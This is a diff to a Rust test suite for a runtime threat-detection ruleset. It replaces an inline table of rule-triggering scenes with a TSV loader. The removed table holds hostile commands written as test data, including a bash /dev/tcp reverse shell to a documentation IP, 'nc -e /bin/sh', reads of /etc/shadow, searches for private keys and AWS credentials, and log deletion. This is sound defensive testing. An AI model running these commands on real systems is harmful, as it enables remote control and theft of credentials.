@@ -21,339 +21,41 @@ const FILES: [&str; 3] =
 /// Rules that alert with the right process, parent and file, of those below. The count only rises.
 const FLOOR: usize = 72;
 
-/// A rule, and the scene that breaks it: flags of `programs/forbidden.c`, parent, process, its arguments, and what the
-/// file's name or the call's arguments contain.
-type Scene =
-    (&'static str, &'static str, &'static str, &'static str, &'static [&'static str], &'static str);
+/// A rule, and the scene that breaks it.
+struct Scene {
+    rule: &'static str,
+    /// The line for `programs/forbidden.c`: flags, parent, process, arguments.
+    line: String,
+    parent: &'static str,
+    process: &'static str,
+    /// What the file's name or the call's arguments contain.
+    file: String,
+}
 
-const SCENES: &[Scene] = &[
-    (
-        "Directory traversal monitored file read",
-        "-",
-        "launcher",
-        "intruder",
-        &["read", "/etc/../etc/../etc/passwd"],
-        "/etc/passwd",
-    ),
-    (
-        "Read sensitive file trusted after startup",
-        "-",
-        "launcher",
-        "httpd",
-        &["late-read", "/etc/shadow"],
-        "/etc/shadow",
-    ),
-    (
-        "Read sensitive file untrusted",
-        "-",
-        "launcher",
-        "intruder",
-        &["read", "/etc/shadow"],
-        "/etc/shadow",
-    ),
-    ("Run shell untrusted", "-", "httpd", "sh", &["-c", "forbidden"], ""),
-    ("System user interactive", "u", "sshd", "intruder", &[], ""),
-    ("Terminal shell in container", "ct", "runc", "bash", &[], ""),
-    ("Netcat Remote Code Execution in Container", "c", "launcher", "nc", &["-e", "/bin/sh"], ""),
-    ("Search Private Keys or Passwords", "-", "launcher", "grep", &["BEGIN RSA PRIVATE", "/"], ""),
-    (
-        "Clear Log Activities",
-        "-",
-        "launcher",
-        "intruder",
-        &["truncate", "/var/log/auth.log"],
-        "/var/log/auth.log",
-    ),
-    ("Remove Bulk Data from Disk", "-", "launcher", "shred", &["x"], ""),
-    (
-        "Create Symlink Over Sensitive Files",
-        "-",
-        "launcher",
-        "intruder",
-        &["symlink", "/etc/shadow", "/tmp/s"],
-        "/etc/shadow",
-    ),
-    (
-        "Create Hardlink Over Sensitive Files",
-        "-",
-        "launcher",
-        "intruder",
-        &["link", "/etc/shadow", "/tmp/h"],
-        "/etc/shadow",
-    ),
-    (
-        "Packet socket created in container",
-        "c",
-        "launcher",
-        "intruder",
-        &["packet-socket"],
-        "AF_PACKET",
-    ),
-    (
-        "Redirect STDOUT/STDIN to Network Connection in Container",
-        "c",
-        "launcher",
-        "intruder",
-        &["redirect"],
-        "127.0.0.1",
-    ),
-    ("Linux Kernel Module Injection Detected", "c", "launcher", "intruder", &["module"], ""),
-    (
-        "Detect release_agent File Container Escapes",
-        "c",
-        "launcher",
-        "intruder",
-        &["write", "/tmp/release_agent"],
-        "/tmp/release_agent",
-    ),
-    ("PTRACE attached to process", "-", "launcher", "intruder", &["attach"], "PTRACE_ATTACH"),
-    ("PTRACE anti-debug attempt", "-", "launcher", "intruder", &["traceme"], "PTRACE_TRACEME"),
-    ("Find AWS Credentials", "-", "launcher", "find", &["/", "-name", ".aws/credentials"], ""),
-    ("Execution from /dev/shm", "-", "launcher", "/dev/shm/evil", &[], ""),
-    ("Drop and execute new binary in container", "c", "launcher", "/layer/all/dropped", &[], ""),
-    (
-        "Disallowed SSH Connection Non Standard Port",
-        "-",
-        "launcher",
-        "ssh",
-        &["connect", "192.0.2.1", "443"],
-        "192.0.2.1:443",
-    ),
-    ("Fileless execution via memfd_create", "m", "launcher", "ghost", &[], ""),
-    (
-        "Modify Shell Configuration File",
-        "-",
-        "launcher",
-        "intruder",
-        &["write", "~/.bashrc"],
-        "~/.bashrc",
-    ),
-    (
-        "Schedule Cron Jobs",
-        "-",
-        "launcher",
-        "intruder",
-        &["write", "/etc/cron.d/job"],
-        "/etc/cron.d/job",
-    ),
-    ("Read ssh information", "-", "launcher", "intruder", &["read", "~/.ssh/id"], "~/.ssh/id"),
-    ("DB program spawned process", "-", "mysqld", "intruder", &["spawned"], ""),
-    ("Change thread namespace", "-", "launcher", "intruder", &["setns"], ""),
-    ("Change namespace privileges via unshare", "cu", "launcher", "intruder", &["unshare"], ""),
-    ("Launch Excessively Capable Container", "cp", "launcher", "entry", &[], ""),
-    (
-        "System procs network activity",
-        "-",
-        "launcher",
-        "cat",
-        &["connect", "192.0.2.1", "443"],
-        "192.0.2.1:443",
-    ),
-    ("Program run with disallowed http proxy env", "e", "launcher", "curl", &["x"], ""),
-    (
-        "Unexpected UDP Traffic",
-        "-",
-        "launcher",
-        "intruder",
-        &["connect-udp", "192.0.2.1", "4000"],
-        "192.0.2.1:4000",
-    ),
-    ("Non sudo setuid", "u", "launcher", "intruder", &["setuid", "1"], ""),
-    ("User mgmt binaries", "-", "launcher", "useradd", &["x"], ""),
-    ("Create files below dev", "-", "launcher", "intruder", &["write", "/dev/evil"], "/dev/evil"),
-    (
-        "Contact EC2 Instance Metadata Service From Container",
-        "c",
-        "launcher",
-        "intruder",
-        &["connect", "169.254.169.254", "80"],
-        "169.254.169.254:80",
-    ),
-    (
-        "Contact cloud metadata service from container",
-        "c",
-        "launcher",
-        "intruder",
-        &["connect", "169.254.169.254", "80"],
-        "169.254.169.254:80",
-    ),
-    (
-        "Launch Package Management Process in Container",
-        "c",
-        "launcher",
-        "apt-get",
-        &["install"],
-        "",
-    ),
-    ("Launch Suspicious Network Tool in Container", "c", "launcher", "nmap", &["x"], ""),
-    ("Launch Suspicious Network Tool on Host", "-", "launcher", "nmap", &["x"], ""),
-    (
-        "Delete or rename shell history",
-        "-",
-        "launcher",
-        "intruder",
-        &["unlink", "~/.bash_history"],
-        "~/.bash_history",
-    ),
-    (
-        "Set Setuid or Setgid bit",
-        "-",
-        "launcher",
-        "intruder",
-        &["setuid-bit", "/srv/file"],
-        "/srv/file",
-    ),
-    ("Launch Remote File Copy Tools in Container", "c", "launcher", "scp", &["x"], ""),
-    ("Launch Ingress Remote File Copy Tools in Container", "c", "launcher", "wget", &["x"], ""),
-    (
-        "Read environment variable from /proc files",
-        "c",
-        "launcher",
-        "intruder",
-        &["read", "/proc/self/environ"],
-        "/proc/self/environ",
-    ),
-    (
-        "Exfiltrating Artifacts via Kubernetes Control Plane",
-        "c",
-        "runc",
-        "tar",
-        &["read", "/srv/secret"],
-        "/srv/secret",
-    ),
-    (
-        "Adding ssh keys to authorized_keys",
-        "-",
-        "launcher",
-        "intruder",
-        &["write", "~/.ssh/authorized_keys"],
-        "~/.ssh/authorized_keys",
-    ),
-    (
-        "Potential Local Privilege Escalation via Environment Variables Misuse",
-        "e",
-        "launcher",
-        "intruder",
-        &["tuned"],
-        "",
-    ),
-    (
-        "Backdoored library loaded into SSHD (CVE-2024-3094)",
-        "-",
-        "launcher",
-        "sshd",
-        &["read", "/srv/liblzma.so.5.6.0"],
-        "/srv/liblzma.so.5.6.0",
-    ),
-    ("BPF Program Not Profiled", "-", "launcher", "intruder", &["bpf"], ""),
-    (
-        "Update Package Repository",
-        "-",
-        "launcher",
-        "intruder",
-        &["write", "/etc/apt/sources.list.d/evil.list"],
-        "/etc/apt/sources.list.d/evil.list",
-    ),
-    (
-        "Write below binary dir",
-        "-",
-        "launcher",
-        "intruder",
-        &["write", "/usr/bin/evil"],
-        "/usr/bin/evil",
-    ),
-    (
-        "Write below monitored dir",
-        "-",
-        "launcher",
-        "intruder",
-        &["write", "/boot/evil"],
-        "/boot/evil",
-    ),
-    ("Write below etc", "-", "launcher", "intruder", &["write", "/etc/evil"], "/etc/evil"),
-    ("Write below root", "-", "launcher", "intruder", &["write", "/evil"], "/evil"),
-    (
-        "Write below rpm database",
-        "-",
-        "launcher",
-        "intruder",
-        &["write", "/var/lib/rpm/Packages"],
-        "/var/lib/rpm/Packages",
-    ),
-    (
-        "Modify binary dirs",
-        "-",
-        "launcher",
-        "intruder",
-        &["rename", "/usr/bin/tool", "/usr/bin/tool2"],
-        "/usr/bin/tool",
-    ),
-    (
-        "Mkdir binary dirs",
-        "-",
-        "launcher",
-        "intruder",
-        &["mkdir", "/usr/bin/evil-folder"],
-        "/usr/bin/evil-folder",
-    ),
-    (
-        "Detect crypto miners using the Stratum protocol",
-        "-",
-        "launcher",
-        "worker",
-        &["stratum+tcp://192.0.2.1"],
-        "",
-    ),
-    ("Kubernetes Client Tool Launched in Container", "c", "launcher", "kubectl", &["get"], ""),
-    ("Sudo Potential Privilege Escalation", "-", "launcher", "sudoedit", &["-s", "\\"], ""),
-    (
-        "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
-        "u",
-        "launcher",
-        "intruder",
-        &["userfaultfd"],
-        "",
-    ),
-    (
-        "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
-        "-",
-        "launcher",
-        "pkexec",
-        &[],
-        "",
-    ),
-    ("Decoding Payload in Container", "c", "launcher", "base64", &["-d"], ""),
-    ("Basic Interactive Reconnaissance", "t", "launcher", "whoami", &[], ""),
-    ("Netcat/Socat Remote Code Execution on Host", "-", "launcher", "nc", &["-e", "/bin/sh"], ""),
-    ("Network Tool Executed During NPM Package Install", "c", "npm", "nmap", &["y"], ""),
-    ("Known Cryptominer Process Executed", "-", "launcher", "xmrig", &[], ""),
-    ("Web Server Spawned Shell", "-", "nginx", "sh", &["-c", "forbidden"], ""),
-    ("Web Server Spawned Suspicious Child Process", "-", "nginx", "id", &[], ""),
-    (
-        "Reverse Shell from Web Server",
-        "-",
-        "nginx",
-        "bash",
-        &["-c", "bash -i >& /dev/tcp/192.0.2.1/443"],
-        "",
-    ),
-    (
-        "Privileged Container Device Access",
-        "c",
-        "launcher",
-        "intruder",
-        &["read", "/dev/sdz"],
-        "/dev/sdz",
-    ),
-    (
-        "Container Access to Host Sensitive Paths",
-        "c",
-        "launcher",
-        "intruder",
-        &["read", "/host/secret"],
-        "/host/secret",
-    ),
-];
+/// The scenes of `programs/forbidden.tsv`. First comes the one that waits for 5 s.
+fn scenes() -> Vec<Scene> {
+    let text = include_str!("../programs/forbidden.tsv");
+    let lines = text.lines().filter(|line| !line.starts_with('#'));
+    let mut scenes: Vec<Scene> = lines
+        .map(|line| {
+            let fields: Vec<&str> = line.split('\t').collect();
+            let [rule, flags, parent, process, file, arguments @ ..] = fields.as_slice() else {
+                panic!("{line}: a scene has five fields and more");
+            };
+            let mut played = vec![*flags, *parent, *process];
+            played.extend_from_slice(arguments);
+            Scene {
+                rule,
+                line: at_home(&played.join("\t")),
+                parent,
+                process: process.rsplit('/').next().unwrap_or(process),
+                file: at_home(file.trim_start_matches('-')),
+            }
+        })
+        .collect();
+    scenes.sort_by_key(|scene| !scene.line.contains("late-read"));
+    scenes
+}
 
 /// The folder of root for `~`.
 fn at_home(text: &str) -> String {
@@ -396,7 +98,7 @@ fn rules(folder: &Path) -> RuleSet {
 }
 
 /// Plays the scenes and records every call meanwhile, as a scap file.
-fn recorded(program: &Program, container: &Container) -> Vec<u8> {
+fn recorded(program: &Program, container: &Container, scenes: &[Scene]) -> Vec<u8> {
     let mut command = program.command("stage");
     command.arg(container.0.join("cgroup.procs"));
     let mut child =
@@ -419,15 +121,11 @@ fn recorded(program: &Program, container: &Container) -> Vec<u8> {
         };
         writer.write(&item).expect("memory");
     });
-    let mut scenes = child.stdin.take().expect("it has an input");
+    let mut input = child.stdin.take().expect("it has an input");
+    let lines: Vec<String> = scenes.iter().map(|scene| scene.line.clone()).collect();
     let player = std::thread::spawn(move || {
-        // First what waits for 5 s.
-        let (waits, rest): (Vec<_>, Vec<_>) =
-            SCENES.iter().partition(|scene| scene.4.contains(&"late-read"));
-        for (_, flags, parent, process, arguments, _) in waits.into_iter().chain(rest) {
-            let mut fields: Vec<&str> = vec![flags, parent, process];
-            fields.extend_from_slice(arguments);
-            writeln!(scenes, "{}", at_home(&fields.join("\t"))).expect("the program reads");
+        for line in lines {
+            writeln!(input, "{line}").expect("the program reads");
         }
     });
     let status = loop {
@@ -491,25 +189,25 @@ fn what_shipped_rules_forbid_is_found_with_its_process_parent_and_file() {
     let Some(container) = Container::new(name) else { return };
     let rules = rules(&folder);
     assert_eq!(rules.enabled(), 81);
-    let found = alerts(recorded(&program, &container), &rules);
+    let scenes = scenes();
+    let found = alerts(recorded(&program, &container, &scenes), &rules);
     let mut right = 0;
-    for (rule, _, parent, process, _, file) in SCENES {
-        assert!(rules.rules().iter().any(|r| r.name == *rule), "{rule}: no such rule");
-        let process = process.rsplit('/').next().unwrap_or(process);
+    for scene in &scenes {
+        assert!(rules.rules().iter().any(|r| r.name == scene.rule), "{}: no such rule", scene.rule);
         // A program that runs from memory has the number of its descriptor as name.
         let is_its = |alert: &&Alert| {
-            alert.0 == *rule
-                && (alert.1 == process || process == "ghost")
-                && alert.2 == *parent
-                && alert.3.contains(&at_home(file))
+            alert.0 == scene.rule
+                && (alert.1 == scene.process || scene.process == "ghost")
+                && alert.2 == scene.parent
+                && alert.3.contains(&scene.file)
         };
         if found.iter().any(|alert| is_its(&alert)) {
             right += 1;
             continue;
         }
-        let others: Vec<_> = found.iter().filter(|alert| alert.0 == *rule).take(2).collect();
-        println!("{rule}: {process} of {parent}, {file:?}: instead {others:?}");
+        let others: Vec<_> = found.iter().filter(|alert| alert.0 == scene.rule).take(2).collect();
+        println!("{}: {:?}, {:?}: instead {others:?}", scene.rule, scene.line, scene.file);
     }
-    println!("{right} of {} rules alert with the right process, parent and file", SCENES.len());
-    assert!(right >= FLOOR, "{right} of {}", SCENES.len());
+    println!("{right} of {} rules alert with the right process, parent and file", scenes.len());
+    assert!(right >= FLOOR, "{right} of {}", scenes.len());
 }
